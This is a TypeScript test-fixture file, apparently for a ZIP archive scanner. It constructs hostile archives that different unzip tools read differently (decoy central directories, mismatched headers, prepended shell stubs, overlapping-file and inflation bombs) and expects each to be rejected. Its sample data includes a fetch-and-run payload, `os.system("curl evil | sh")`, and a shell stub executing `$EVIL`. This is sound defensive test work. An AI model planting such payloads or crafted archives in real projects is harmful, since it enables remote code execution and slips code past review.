import { crc32 } from 'node:zlib';
import {
  buildZip,
  centralRecordOf,
  dataDescriptor,
  ENCRYPTED_FLAG,
  endOfCentralDirectory,
  extraField,
  type HostileCase,
  localHeaderOf,
  type RawEntry,
  UTF8_FLAG,
  withZip64End,
} from './zips';

/**
 * Archives whose bytes mean different files to different readers (yauzl, Info-ZIP, Python's zipfile,
 * streaming readers), each refused with its own code. Shared harness: hostile-archives.test.ts.
 */

const text = (s: string) => Buffer.from(s);
const fine = { name: 'ok/fine.txt', data: text('fine\n') };
const main = { name: 'main.py', data: text('print("reviewed")\n') };
const evil = text('import os; os.system("curl evil | sh")\n');
const zip =
  (...entries: RawEntry[]) =>
  () =>
    buildZip(entries);

const DESCRIPTOR_FLAG = 0x8;

/** A stored entry written the streaming way: bit 3, zeros in the local header, values after the data. */
function streamed(entry: { name: string; data: Buffer }, descriptor?: Buffer): RawEntry {
  const values = { crc: crc32(entry.data), compressedSize: entry.data.length, size: entry.data.length };
  return {
    ...entry,
    flags: DESCRIPTOR_FLAG,
    local: { crc: 0, compressedSize: 0, size: 0 },
    after: descriptor ?? dataDescriptor(values),
  };
}

/** Rewrites the end record's central-directory size or offset by `delta`. */
function patchEnd(bytes: Buffer, field: 'size' | 'offset', delta: number): Buffer {
  const at = bytes.length - 22 + (field === 'size' ? 12 : 16);
  bytes.writeUInt32LE(bytes.readUInt32LE(at) + delta, at);
  return bytes;
}

/** Info-ZIP Unicode Path field: version 1, CRC-32 of the header name, then the name tools should use. */
function unicodePath(headerName: string, shownName: string): Buffer {
  const head = Buffer.alloc(5);
  head.writeUInt8(1, 0);
  head.writeUInt32LE(crc32(Buffer.from(headerName)), 1);
  return extraField(0x7075, Buffer.concat([head, Buffer.from(shownName)]));
}

/** The overlapping-file bomb: entry "a"'s data is entry "b"'s local header and data, so both own them. */
function overlapBomb(): Buffer {
  const inner: RawEntry = { name: 'b', data: text('payload') };
  const innerBytes = Buffer.concat([localHeaderOf(inner), text('payload')]);
  return buildZip([
    { name: 'a', data: innerBytes },
    { ...inner, centralOnlyAt: 30 + 'a'.length },
  ]);
}

/** The end record points at a decoy directory inside a stored file; the real one sits before the end record. */
function decoyInsideFile(): Buffer {
  const decoy = centralRecordOf({ name: 'main.py', data: evil }, 0);
  const holder: RawEntry = { name: 'notes.bin', data: decoy };
  const decoyAt = localHeaderOf(fine).length + (fine.data?.length ?? 0) + localHeaderOf(holder).length;
  return buildZip([fine, holder], { directoryOffset: decoyAt });
}

export const layoutCases: HostileCase[] = [
  // Local headers that disagree with their central record.
  {
    title: 'local name differs from the central name',
    bytes: zip(fine, { ...main, local: { name: 'main.pz' } }),
    code: 'zip.header-mismatch',
    caughtBy: 'scan',
  },
  {
    title: 'local compression method differs',
    bytes: zip(fine, { ...main, method: 'deflate', local: { method: 0 } }),
    code: 'zip.header-mismatch',
    caughtBy: 'scan',
  },
  {
    title: 'encryption bit set only in the local header',
    bytes: zip(fine, { ...main, local: { flags: ENCRYPTED_FLAG } }),
    code: 'zip.header-mismatch',
    caughtBy: 'scan',
  },
  {
    title: 'encryption bit set only in the central record',
    bytes: zip(fine, { ...main, flags: ENCRYPTED_FLAG, local: { flags: 0 } }),
    code: 'zip.encrypted',
    caughtBy: 'scan',
  },
  {
    title: 'UTF-8 flag set only in the central record',
    bytes: zip({ name: 'caf\u00e9.py', data: text('x'), flags: UTF8_FLAG, local: { flags: 0 } }),
    code: 'zip.header-mismatch',
    caughtBy: 'scan',
  },
  {
    title: 'local CRC-32 differs',
    bytes: zip(fine, { ...main, local: { crc: 0xdeadbeef } }),
    code: 'zip.header-mismatch',
    caughtBy: 'scan',
  },
  {
    title: 'local uncompressed size differs',
    bytes: zip(fine, { ...main, method: 'deflate', local: { size: 5 } }),
    code: 'zip.header-mismatch',
    caughtBy: 'scan',
  },
  {
    title: 'local compressed size differs',
    bytes: zip(fine, { ...main, method: 'deflate', local: { compressedSize: 3 } }),
    code: 'zip.header-mismatch',
    caughtBy: 'scan',
  },
  {
    title: 'zero local sizes without bit 3',
    bytes: zip(fine, { ...main, local: { crc: 0, compressedSize: 0, size: 0 } }),
    code: 'zip.header-mismatch',
    caughtBy: 'scan',
  },
  {
    title: 'no local header where the central record points',
    bytes: zip(fine, { ...main, centralOnlyAt: 2 }),
    code: 'zip.overlapping-entries',
    caughtBy: 'scan',
  },
  // Data descriptors.
  {
    title: 'data descriptor with a lying CRC-32',
    bytes: zip(
      fine,
      streamed(
        main,
        dataDescriptor({ crc: 1, compressedSize: main.data?.length ?? 0, size: main.data?.length ?? 0 }),
      ),
    ),
    code: 'zip.descriptor-mismatch',
    caughtBy: 'scan',
  },
  {
    title: 'data descriptor with lying sizes',
    bytes: zip(
      streamed(
        main,
        dataDescriptor({ crc: crc32(main.data ?? Buffer.alloc(0)), compressedSize: 4, size: 4 }),
      ),
      fine,
    ),
    code: 'zip.descriptor-mismatch',
    caughtBy: 'scan',
  },
  {
    title: 'bit 3 set but no data descriptor',
    bytes: zip(fine, streamed(main, Buffer.alloc(0))),
    code: 'zip.descriptor-mismatch',
    caughtBy: 'scan',
  },
  // Bytes that no entry owns.
  {
    title: 'script prepended before the first local header (offsets adjusted, as zip -A does)',
    bytes: () => buildZip([fine, main], { prefix: text('#!/bin/sh\nexec python3 -c "$EVIL"\n') }),
    code: 'zip.unowned-bytes',
    caughtBy: 'scan',
  },
  {
    title:
      'script prepended with `cat` (offsets not adjusted; Info-ZIP and Python compensate, yauzl does not)',
    bytes: () =>
      buildZip([fine, main], {
        prefix: text('#!/bin/sh\nexec python3 -c "$EVIL"\n'),
        prefixShiftsOffsets: false,
      }),
    code: 'zip.bad-directory',
    caughtBy: 'scan',
  },
  {
    title: 'gap between two entries',
    bytes: zip({ ...fine, after: evil }, main),
    code: 'zip.unowned-bytes',
    caughtBy: 'scan',
  },
  {
    title: 'gap between the last entry and the central directory',
    bytes: () => buildZip([fine, main], { beforeDirectory: evil }),
    code: 'zip.unowned-bytes',
    caughtBy: 'scan',
  },
  // Overlaps.
  {
    title: 'two central records pointing at the same local header',
    bytes: zip(fine, main, { name: 'other.py', data: main.data, centralOnlyAt: 0 }),
    code: 'zip.overlapping-entries',
    caughtBy: 'scan',
  },
  {
    title: 'overlapping-file bomb (one entry’s data holds the next entry)',
    bytes: overlapBomb,
    code: 'zip.overlapping-entries',
    caughtBy: 'scan',
  },
  {
    title: 'entry whose data reaches into the central directory',
    bytes: zip(fine, { ...main, declaredCompressedSize: 40, declaredSize: 40 }),
    code: 'zip.overlapping-entries',
    caughtBy: 'scan',
  },
  // End record and central directory.
  {
    title: 'end record counts fewer records than the directory holds (hidden record)',
    bytes: () => buildZip([fine, main], { declaredEntryCount: 1 }),
    code: 'zip.bad-directory',
    caughtBy: 'scan',
  },
  {
    title: 'end record counts more records than the directory holds',
    bytes: () => buildZip([fine, main], { declaredEntryCount: 3 }),
    code: 'zip.bad-directory',
    caughtBy: 'scan',
  },
  {
    title: 'end record points at a decoy central directory inside a file',
    bytes: decoyInsideFile,
    code: 'zip.bad-directory',
    caughtBy: 'scan',
  },
  {
    title: 'decoy central directory between the entries and the real one',
    bytes: () =>
      buildZip([fine, main], { beforeDirectory: centralRecordOf({ name: 'main.py', data: evil }, 0) }),
    code: 'zip.bad-directory',
    caughtBy: 'scan',
  },
  {
    title: 'central directory size lies',
    bytes: () => patchEnd(buildZip([fine, main]), 'size', -46),
    code: 'zip.bad-directory',
    caughtBy: 'scan',
  },
  {
    title: 'central directory offset lies',
    bytes: () => patchEnd(buildZip([fine, main]), 'offset', -1),
    code: 'zip.bad-directory',
    caughtBy: 'scan',
  },
  {
    title: 'a second end record in the comment',
    bytes: () => buildZip([fine, main], { comment: endOfCentralDirectory(1, 0, 0) }),
    code: 'zip.bad-directory',
    caughtBy: 'scan',
  },
  {
    title: 'an end-record signature in the comment',
    bytes: () => buildZip([fine, main], { comment: text('see PK\x05\x06 for details, then more text') }),
    code: 'zip.bad-directory',
    caughtBy: 'scan',
  },
  {
    title: 'bytes after the end record',
    bytes: () => Buffer.concat([buildZip([fine, main]), text('trailing')]),
    code: 'zip.bad-directory',
    caughtBy: 'scan',
  },
  {
    title: 'multi-disk end record',
    bytes: () => {
      const bytes = buildZip([fine, main]);
      bytes.writeUInt16LE(1, bytes.length - 22 + 4);
      return bytes;
    },
    code: 'zip.bad-directory',
    caughtBy: 'scan',
  },
  {
    title: 'zip64 end record and end record disagree on the count',
    bytes: () => withZip64End(buildZip([fine, main]), { count16: 1 }),
    code: 'zip.bad-directory',
    caughtBy: 'scan',
  },
  {
    title: 'zip64 end record hides a record past its count',
    bytes: () => withZip64End(buildZip([fine, main]), { zip64Count: 1 }),
    code: 'zip.bad-directory',
    caughtBy: 'scan',
  },
  // Extra fields that rename or encrypt.
  {
    title: 'Info-ZIP Unicode Path extra field',
    bytes: zip(fine, { ...main, extra: unicodePath('main.py', 'evil.py') }),
    code: 'zip.ambiguous-name',
    caughtBy: 'scan',
  },
  {
    title: 'Info-ZIP Unicode Path extra field in the local header only',
    bytes: zip(fine, { ...main, local: { extra: unicodePath('main.py', 'evil.py') } }),
    code: 'zip.ambiguous-name',
    caughtBy: 'scan',
  },
  {
    title: 'AES encryption extra field',
    bytes: zip(fine, { ...main, extra: extraField(0x9901, Buffer.from([2, 0, 0x41, 0x45, 3, 8, 0])) }),
    code: 'zip.encrypted',
    caughtBy: 'scan',
  },
  {
    title: 'strong-encryption extra field',
    bytes: zip(fine, { ...main, extra: extraField(0x0017, Buffer.alloc(8)) }),
    code: 'zip.encrypted',
    caughtBy: 'scan',
  },
  {
    title: 'masked local header flag (bit 13)',
    bytes: zip(fine, { ...main, flags: 0x2000 }),
    code: 'zip.encrypted',
    caughtBy: 'scan',
  },
  {
    title: 'malformed extra field',
    bytes: zip(fine, { ...main, extra: Buffer.from([0x55, 0x54, 0xff, 0x00, 1]) }),
    code: 'zip.corrupt',
    caughtBy: 'scan',
  },
  // Directory entries.
  {
    title: 'directory entry carrying data',
    bytes: zip(fine, { name: 'lib/', data: evil }),
    code: 'zip.directory-has-data',
    caughtBy: 'scan',
  },
  {
    title: 'deflated directory entry declaring size 0 but holding data',
    bytes: zip(fine, { name: 'lib/', data: evil, method: 'deflate', declaredSize: 0, crc: 0 }),
    code: 'zip.directory-has-data',
    caughtBy: 'scan',
  },
  // Bomb limits on bytes really inflated, whatever was declared.
  {
    title: 'entry inflating past its declared size and the total limit',
    bytes: zip(fine, { name: 'lie', data: Buffer.alloc(5000, 7), method: 'deflate', declaredSize: 1000 }),
    code: 'zip.too-large',
    caughtBy: 'stream',
    limits: { maxTotalBytes: 2000 },
  },
  {
    title: 'entry inflating past its declared size and the per-entry limit',
    bytes: zip(fine, { name: 'lie', data: Buffer.alloc(5000, 7), method: 'deflate', declaredSize: 1000 }),
    code: 'zip.entry-too-large',
    caughtBy: 'stream',
    limits: { maxEntryBytes: 2000 },
  },
];
